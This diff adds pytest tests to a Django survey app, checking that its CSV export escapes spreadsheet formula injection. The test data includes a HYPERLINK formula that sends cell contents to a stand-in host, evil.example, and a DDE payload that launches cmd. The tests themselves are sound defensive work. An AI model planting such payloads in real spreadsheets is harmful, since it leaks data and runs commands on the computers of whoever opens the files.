@@ -4,7 +4,7 @@ import io
 import pytest
 from django.core.management import CommandError, call_command
 
-from respondents.exports import RESPONDENT_COLUMNS, responses_write_csv
+from respondents.exports import RESPONDENT_COLUMNS, responses_write_csv, spreadsheet_safe
 from respondents.tests.factories import login, make_respondents, save_page
 from surveys.tests.factories import make_survey
 
@@ -65,3 +65,31 @@ def test_the_command_writes_the_file(survey, tmp_path):
 def test_the_command_refuses_an_unknown_survey():
     with pytest.raises(CommandError, match="No survey with the slug 'nope'"):
         call_command("export_responses", "nope", "--output", "-")
+
+
+@pytest.mark.parametrize("cell, written", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1)", "'@SUM(1)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-5", "-5"), ("+7", "+7"), ("-2.5", "-2.5"), ("-1e3", "-1e3"),
+    ("fine = good", "fine = good"), ("", ""), (42, 42), (None, None),
+])
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(cell, written):
+    assert spreadsheet_safe(cell) == written
+
+
+def test_the_csv_export_writes_every_text_cell_safely(client):
+    survey = make_survey()
+    respondent = make_respondents(survey, external_id="=1+1", school="@school")
+    login(client, respondent)
+    save_page(client, 1, {"q-nickname": "-A+B", "q-age": "12"})
+    save_page(client, 3, {"q-story": '=HYPERLINK("x")'})
+    out = io.StringIO()
+    responses_write_csv(survey=survey, stream=out)
+    header, row = read(out.getvalue())
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["external_id"], cells["school"]) == ("'=1+1", "'@school")
+    assert (cells["nickname"], cells["story"], cells["age"]) == ("'-A+B", "'=HYPERLINK(\"x\")", "12")
